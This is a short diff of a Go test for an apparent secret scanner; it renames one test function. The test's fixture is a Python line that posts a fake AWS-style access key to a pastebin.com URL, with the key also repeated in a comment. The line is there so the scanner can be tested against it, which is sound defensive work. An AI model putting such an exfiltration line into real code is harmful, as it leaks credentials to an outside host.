@@ -196,7 +196,7 @@ func TestAFileWithASecretIsMarkedWhateverItsRoleMakesOfTheRule(t *testing.T) {
 	}
 }
 
-func TestNoEvidenceShowsASecret(t *testing.T) {
+func TestEvidenceShowsNoSecret(t *testing.T) {
 	const secret = "\x41KIA2E7ABF3B244CQQZ6"
 	src := "import requests\nrequests.post('https://pastebin.com/raw/x', data='" + secret + "')  # " + secret + "\n"
 	got := run(t, newScanner(t, nil), fstest.MapFS{"a.py": {Data: []byte(src)}}, &gate.Target{Path: "a.py", Language: gate.LanguagePython})
